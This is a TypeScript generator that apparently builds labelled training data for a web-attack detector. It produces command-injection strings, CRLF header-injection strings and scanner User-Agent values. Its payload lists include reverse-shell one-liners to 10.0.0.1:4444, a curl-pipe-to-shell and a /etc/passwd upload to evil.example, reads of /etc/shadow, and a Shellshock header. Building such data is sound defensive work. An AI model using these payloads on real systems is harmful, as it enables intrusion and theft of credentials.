// Generates the attack families the source lists barely cover: command injection as it reaches a
// parameter (a plausible value, a separator, a command) and CRLF / header injection.
// Called by build.ts; sources are `gen:rce:<family>` and `gen:crlf:<family>`.

import { buildQuery, fillerParam, site, word, ipv4 } from './contexts.ts';
import { Rng } from './rng.ts';
import { GenRow } from './nosqli.ts';
import { PADDING } from './prose.ts';

export interface AttackRow extends GenRow { cls: string }

const CMDS = ['id', 'whoami', 'uname -a', 'cat /etc/passwd', 'cat /etc/shadow', 'ls -la', 'ls -la /', 'pwd', 'hostname', 'ifconfig', 'ip a', 'ps aux',
  'netstat -an', 'sleep 5', 'sleep 10', 'ping -c 3 127.0.0.1', 'ping -n 3 127.0.0.1', 'cat /proc/self/environ', 'env', 'set', 'echo pwned', 'touch /tmp/pwned',
  'rm -rf /tmp/x', 'nc -e /bin/sh 10.0.0.1 4444', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'curl http://evil.example/x.sh | sh', 'wget http://evil.example/a -O /tmp/a',
  'python -c "import os;os.system(\'id\')"', 'perl -e "print 1"', 'php -r "system(\'id\');"', 'powershell -enc SQBFAFgA', 'cmd /c dir', 'type C:\\Windows\\win.ini',
  'net user', 'dir c:\\', 'nslookup evil.example', 'curl -d @/etc/passwd http://evil.example/', 'chmod +x /tmp/a', '/bin/sh -c id', 'busybox telnetd -l /bin/sh'];
const SEPS: Array<[(v: string, c: string) => string, number]> = [
  [(v, c) => `${v};${c}`, 10], [(v, c) => `${v}; ${c}`, 6], [(v, c) => `${v}|${c}`, 6], [(v, c) => `${v} | ${c}`, 4], [(v, c) => `${v}||${c}`, 4],
  [(v, c) => `${v}&&${c}`, 5], [(v, c) => `${v} && ${c}`, 3], [(v, c) => `${v}&${c}`, 2], [(v, c) => `${v}\n${c}`, 4], [(v, c) => `${v}\`${c}\``, 4],
  [(v, c) => `${v}$(${c})`, 5], [(v, c) => `$(${c})`, 3], [(v, c) => `\`${c}\``, 3], [(v, c) => `;${c}`, 4], [(v, c) => `|${c}`, 3], [(v, c) => `${v}';${c};'`, 2],
  [(v, c) => `${v}";${c};"`, 2], [(v, c) => `${v}%0a${c}`, 2], [(v, c) => `${v};${c.replace(/ /g, '${IFS}')}`, 2], [(v, c) => `${v};${c.replace(/ /g, '\t')}`, 1],
];
const CMD_PARAMS = ['host', 'ip', 'domain', 'cmd', 'exec', 'command', 'ping', 'target', 'addr', 'file', 'filename', 'path', 'dir', 'url', 'name', 'q', 'id', 'email', 'to', 'callback'];

function benignValue(r: Rng, name: string): string {
  if (['host', 'domain', 'target', 'url'].includes(name)) return r.pick([site(r), `www.${site(r)}`, 'example.com', 'localhost']);
  if (['ip', 'addr', 'ping'].includes(name)) return r.pick([ipv4(r), '127.0.0.1', '8.8.8.8']);
  if (['file', 'filename', 'path', 'dir'].includes(name)) return r.pick([`${word(r)}.txt`, `report-${r.int(1, 99)}.pdf`, `/var/www/${word(r)}`, 'index.html']);
  return r.pick([word(r), String(r.int(1, 9999)), `${word(r)}@example.com`, '']);
}

function cmdiRow(r: Rng): AttackRow {
  const name = r.pick(CMD_PARAMS);
  let payload = r.weighted(SEPS)(benignValue(r, name), r.pick(CMDS));
  if (r.chance(0.1)) payload = padRun(r, payload);
  const where = r.weighted([['query', 45], ['body:form', 25], ['body:json', 20], ['header:Cookie', 3], ['header:User-Agent', 4], ['path', 3]] as const);
  const enc = (s: string) => (r.chance(0.6) ? encodeURIComponent(s) : s.replace(/ /g, r.pick(['+', '%20'])).replace(/\n/g, '%0a'));
  let text: string;
  if (where === 'body:json') text = JSON.stringify({ [name]: payload, ...(r.chance(0.5) ? { [fillerParam(r)[0]]: word(r) } : {}) });
  else if (where === 'body:form') { const [fk, fv] = fillerParam(r); text = `${name}=${enc(payload)}&${fk}=${fv}`; }
  else if (where === 'header:Cookie') text = `session=${r.str(24)}; ${name}=${enc(payload)}`;
  else if (where === 'header:User-Agent') text = r.chance(0.5) ? payload : `() { :; }; /bin/bash -c "${r.pick(CMDS)}"`;
  else if (where === 'path') text = `/cgi-bin/${word(r)}.cgi/${encodeURIComponent(payload)}`;
  else text = buildQuery(r, name, enc(payload));
  return { text, where, family: 'cmdi-separators', cls: 'rce' };
}

const CRLF_HEADERS = ['Set-Cookie: session=attacker', 'Set-Cookie:crlf=injection', 'Location: https://evil.example/', 'Content-Length: 0', 'X-XSS-Protection: 0',
  'Content-Type: text/html', 'Refresh: 0; url=https://evil.example/', 'Access-Control-Allow-Origin: *', 'X-Injected: 1'];
const CRLF_SEQS = ['%0d%0a', '%0D%0A', '%0a', '%0d', '%E5%98%8A%E5%98%8D', '%u000d%u000a', '\\r\\n', '%250d%250a', '%0d%0a%20', '%23%0d%0a', '%3f%0d%0a', '%0d%0a%09'];

function crlfRow(r: Rng): AttackRow {
  const seq = r.pick(CRLF_SEQS);
  let payload = `${r.chance(0.5) ? word(r) : ''}${seq}${r.pick(CRLF_HEADERS).replace(/ /g, r.pick(['%20', '', ' ']))}`;
  if (r.chance(0.25)) payload += `${seq}${seq}<script>alert(1)</script>`;
  const where = r.weighted([['query', 55], ['path', 35], ['body:form', 10]] as const);
  const name = r.pick(['lang', 'redirect', 'next', 'url', 'page', 'q', 'ref', 'utm_source', 'callback', 'return']);
  let text: string;
  if (where === 'path') text = `/${r.pick(['', word(r) + '/', 'api/v1/', 'static/'])}${payload}`;
  else if (where === 'body:form') text = `${name}=${payload}&${fillerParam(r).join('=')}`;
  else text = buildQuery(r, name, payload);
  return { text, where, family: 'header-injection', cls: 'crlf' };
}

// Attack tools that announce themselves: the User-Agent (or a header of their own) a scanner sends
// by default. Written from the tools' documented defaults; versions vary.
function scannerRow(r: Rng): AttackRow {
  const v = () => `${r.int(0, 9)}.${r.int(0, 30)}.${r.int(0, 12)}`;
  const ua = r.pick([
    () => `sqlmap/${r.int(1, 1)}.${r.int(0, 9)}.${r.int(0, 12)}#${r.pick(['stable', 'dev'])} (https://sqlmap.org)`, () => `sqlmap/1.${r.int(0, 9)}-dev (http://sqlmap.org)`,
    () => `Mozilla/5.00 (Nikto/2.${r.int(1, 5)}.${r.int(0, 6)}) (Evasions:None) (Test:${r.pick(['Prefetch', 'map_codes', '000' + r.int(100, 999), 'getinfo'])})`, () => `Nikto/2.5.0`,
    () => `Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))`, () => `Nuclei - Open-source project (github.com/projectdiscovery/nuclei)`,
    () => `Fuzz Faster U Fool v${r.int(1, 2)}.${r.int(0, 9)}.${r.int(0, 9)}${r.pick(['', '-dev'])}`, () => `gobuster/3.${r.int(0, 6)}`, () => `feroxbuster/2.${r.int(0, 10)}.${r.int(0, 4)}`,
    () => `Wfuzz/${r.int(2, 3)}.${r.int(0, 1)}.${r.int(0, 3)}`, () => `DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)`, () => `Mozilla/5.0 (compatible; dirb)`,
    () => `Havij`, () => `Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; Havij)`, () => `WPScan v3.8.${r.int(0, 28)} (https://wpscan.com/wordpress-security-scanner)`,
    () => `Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)`, () => `masscan/1.${r.int(0, 3)} (https://github.com/robertdavidgraham/masscan)`,
    () => `Mozilla/5.0 zgrab/0.x`, () => `commix/v${r.int(3, 4)}.${r.int(0, 9)}-${r.pick(['stable', 'dev'])} (https://commixproject.com)`, () => `Arachni/v${r.int(1, 2)}.${r.int(0, 6)}.${r.int(0, 3)}`,
    () => `w3af.org`, () => `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${r.int(90, 125)}.0.0.0 Safari/537.36 Acunetix`,
    () => `Mozilla/5.0 (compatible; Netsparker)`, () => `Mozilla/5.0 (compatible; OpenVAS-VT ${v()})`, () => `Mozilla/5.0 [en] (X11, U; OpenVAS ${v()})`, () => `Nessus SOAP`,
    () => `Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) Nessus`, () => `XSStrike`, () => `Mozilla/5.0 (compatible; Dalfox)`, () => `jaeles`,
    () => `Mozilla/5.0 SF/2.${r.int(10, 12)}b (skipfish)`, () => `WhatWeb/0.${r.int(4, 5)}.${r.int(0, 9)}`, () => `Mozilla/5.0 (compatible; Burp Suite Scanner)`, () => `ZmEu`,
    () => `Morfeus Fucking Scanner`, () => `Mozilla/5.0 (compatible; Zollard)`, () => `Hydra`, () => `Mozilla/5.0 (Hydra)`, () => `BlackWidow`, () => `Paros/3.2.13`, () => `Mozilla/5.0 (compatible; ZAP)`,
    () => `Mozilla/5.0 (compatible; Qualys WAS)`, () => `fimap.googlecode.com`, () => `Mozilla/5.0 (compatible; jorgee)`, () => `xray/${v()}`, () => `Mozilla/5.0 (compatible; Vega/1.0)`,
  ])();
  if (r.chance(0.12)) {
    const [name, value] = r.pick([['X-Scanner', 'Netsparker'], ['Acunetix-Product', `WVS/${r.int(10, 15)}.0 (Acunetix Web Vulnerability Scanner - ${r.pick(['Free Edition', 'NORMAL'])})`],
      ['Acunetix-Scanning-agreement', 'Third Party Scanning PROHIBITED'], ['X-Wvs-Id', `Acunetix-Deepscan/${r.int(1, 300)}`], ['X-Scan-Memo', `Category="Audit"; Function="createStoredXss"; SID="${r.int(1000, 9999)}"`]]);
    return { text: value, where: `header:${name}` as AttackRow['where'], family: 'tool-headers', cls: 'scanner' };
  }
  return { text: ua, where: 'header:User-Agent', family: 'tool-user-agents', cls: 'scanner' };
}

export function generateAttacksExtra(rng: Rng, nCmdi: number, nCrlf: number, nScanner = 0): AttackRow[] {
  const out: AttackRow[] = [];
  for (let i = 0; i < nCmdi; i++) out.push(cmdiRow(rng));
  for (let i = 0; i < nCrlf; i++) out.push(crlfRow(rng));
  for (let i = 0; i < nScanner; i++) out.push(scannerRow(rng));
  return out;
}


// Runs of one character beside or inside a payload: decoding caps every run at 4 bytes
// (decode/texts.ts), so what the model sees is up to 4 stray characters glued to the payload, and it
// must not read those as a reason to score it lower. `front`: false for classes whose value must
// start with the payload (a redirect target, a URL).
const RUN_CHARS = ['a', 'a', 'A', 'x', 'X', 'z', '0', '1', '9', '_', '-', '.', ' ', '/', '*', '%'];
export function padRun(r: Rng, payload: string, front = true): string {
  const run = r.pick(RUN_CHARS).repeat(r.chance(0.5) ? r.int(5, 40) : r.int(1, 4));
  const k = front ? r.int(0, 3) : 1;
  if (k === 0) return run + payload;
  if (k === 1) return payload + run;
  if (k === 2) return run + payload + run;
  // Inside: in place of one space, or after the first punctuation.
  const sp = payload.indexOf(' ');
  if (sp > 0) return payload.slice(0, sp) + ' '.repeat(r.int(2, 40)) + payload.slice(sp + 1);
  const m = /[;|&'"<>(]/.exec(payload);
  return m ? payload.slice(0, m.index + 1) + run + payload.slice(m.index + 1) : run + payload;
}

export function padPayload(r: Rng, payload: string): string {
  const pad = () => { let s = ''; const n = r.int(1, 5); for (let i = 0; i < n; i++) s += (s ? ' ' : '') + r.pick(PADDING); return s; };
  const k = r.int(0, 2);
  return k === 0 ? `${pad()} ${payload}` : k === 1 ? `${payload} ${pad()}` : `${pad()} ${payload} ${pad()}`;
}
